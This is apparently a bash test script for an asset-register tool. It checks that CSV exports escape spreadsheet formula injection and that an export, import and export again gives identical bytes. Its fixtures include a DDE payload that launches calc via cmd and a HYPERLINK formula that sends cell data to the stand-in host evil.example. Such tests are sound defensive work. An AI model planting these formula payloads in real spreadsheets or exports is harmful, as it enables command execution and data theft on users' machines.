#!/usr/bin/env bash
# Spreadsheet formula injection (OWASP "CSV injection"): every CSV the tool
# writes (asset export, person export, listings' --csv, reports) puts a
# single quote before a cell that starts with =, +, -, @, TAB or CR, and
# before a cell that starts with a quote and one of those or another quote
# ('=x is written ''=x); a plain negative number is left alone. Import
# drops that escape, so export -> import -> export gives the same bytes.
# Import trims white space (a leading TAB included) as it always has, so a
# TAB-escaped formula from another tool comes in as the formula and goes
# out quote-escaped. Dates and costs are untouched.
. "$(dirname "$0")/lib.sh"
export ASSETCTL_TODAY=2026-11-23 ASSETCTL_NOW=2026-11-23T10:00:00Z
new_db src
SRC=$ASSETCTL_DB
cd "$T" || exit 1

"$A" person add --ref JB --name "=cmd|' /C calc'!A0" --job-title '@x' >/dev/null
"$A" person sign-aup JB --date 2026-01-01 --version "'v1" >/dev/null
"$A" person leaving JB --date 2026-12-01 >/dev/null
"$A" person add --ref AO --name "+Ann Other" --email ann@school.org >/dev/null
"$A" asset add --make '=HYPERLINK("http://evil.example/?x="&A1,"click")' --model '@SUM(A1)' --serial '+1' --name '-x' \
  --supplier "'quoted" --location "''two" --order-number "'=x" --cost 649.99 --purchased 2024-01-02 \
  --notes $'-line one\n=line two' >/dev/null
"$A" asset add --make Dell --model "-" --serial "'" --cost 0.01 >/dev/null
"$A" issue TS-000001 JB --due 2026-11-30 --condition '=1+2' >/dev/null

H='tag,serial,make,model,name,category,location,status,issued_to,issued_at,due,condition_out,override_reason,personal_data,encrypted,purchased,cost_pence,supplier,order_number,warranty_until,notes,last_audited,created_at,updated_at,media'
check_out "asset export" "$H
TS-000001,'+1,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'@SUM(A1),'-x,,'''two,issued,JB,2026-11-23,2026-11-30,'=1+2,,no,no,2024-01-02,64999,'quoted,''=x,,\"'-line one
=line two\",,2026-11-23T10:00:00Z,2026-11-23T10:00:00Z,
TS-000002,',Dell,'-,,,,in_stock,,,,,,no,no,,1,,,,,,2026-11-23T10:00:00Z,2026-11-23T10:00:00Z," "$A" asset export
check_out "asset list --csv" "tag,make,model,serial,category,location,status
TS-000001,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'@SUM(A1),'+1,,'''two,issued
TS-000002,Dell,'-,',,,in_stock" "$A" asset list --csv
check_out "person export" "ref,name,email,role,job_title,authoriser,aup_signed,aup_version,leaving_date,created_at,updated_at,badges
AO,'+Ann Other,ann@school.org,staff,,no,,,,2026-11-23T10:00:00Z,2026-11-23T10:00:00Z,
JB,'=cmd|' /C calc'!A0,,staff,'@x,no,2026-01-01,'v1,2026-12-01,2026-11-23T10:00:00Z,2026-11-23T10:00:00Z," "$A" person export
check_out "person list --csv" "ref,name,email,role,aup_signed,leaving_date
AO,'+Ann Other,ann@school.org,staff,,
JB,'=cmd|' /C calc'!A0,,staff,2026-01-01,2026-12-01" "$A" person list --csv
check_out "a report's CSV" "ref,name,leaving_date,tag,make,model,issued_at
JB,'=cmd|' /C calc'!A0,2026-12-01,TS-000001,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'@SUM(A1),2026-11-23" "$A" report leavers --csv

# the round trip: into a fresh register and out again, byte for byte
"$A" person export -o people.csv >/dev/null
"$A" asset export -o assets.csv >/dev/null
new_db dst
check_out "people come back" "people.csv: 2 people added" "$A" person import people.csv
check_out "assets come back" "assets.csv: 2 assets added" "$A" asset import assets.csv
"$A" person export -o people2.csv >/dev/null
"$A" asset export -o assets2.csv >/dev/null
check "person export is the same bytes" cmp people.csv people2.csv
check "asset export is the same bytes" cmp assets.csv assets2.csv
check_out "the values are the values, not their escape" "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")|@SUM(A1)|+1|''two|'quoted|'=x" \
  sh -c "\"$A\" asset export --json | jq -r '.[0] | [.make, .model, .serial, .location, .supplier, .order_number] | join(\"|\")'"
check_out "and a lone quote" "'" sh -c "\"$A\" asset export --json | jq -r '.[1].serial'"

# files from elsewhere: the escape is dropped only before =, +, -, @, TAB,
# CR or a second quote; a TAB-escaped formula is trimmed like any white
# space and goes out quote-escaped
new_db other
printf '%s\n' 'serial,make,model,supplier' \
  "'=x,'abc,''abc,\"	=SUM(A1)\"" \
  "'-,'@,'+,'" >other.csv
check_out "another tool's escapes" "other.csv: 2 assets added" "$A" asset import other.csv
check_out "read as meant" "=x|'abc|'abc|=SUM(A1)
-|@|+|'" sh -c "\"$A\" asset export --json | jq -r '.[] | [.serial, .make, .model, (.supplier // \"\")] | join(\"|\")'"
check_out "and written back escaped" "tag,make,model,serial,category,location,status
TS-000001,'abc,'abc,'=x,,,in_stock
TS-000002,'@,'+,'-,,,in_stock" "$A" asset list --csv

# a negative cost is no amount (escaped or not): refused, nothing changed
printf '%s\n' 'serial,make,model,cost' 'N1,Dell,M,-5' "N2,Dell,M,'-5" >neg.csv
exact "a negative cost is refused" 1 "" "neg.csv:2: cost: '-5' is not an amount in pounds (1049.99 or 1,049.99)
neg.csv:3: cost: '-5' is not an amount in pounds (1049.99 or 1,049.99)
error: 'neg.csv' not imported: nothing was changed (2 problems)" "$A" asset import neg.csv
done_testing
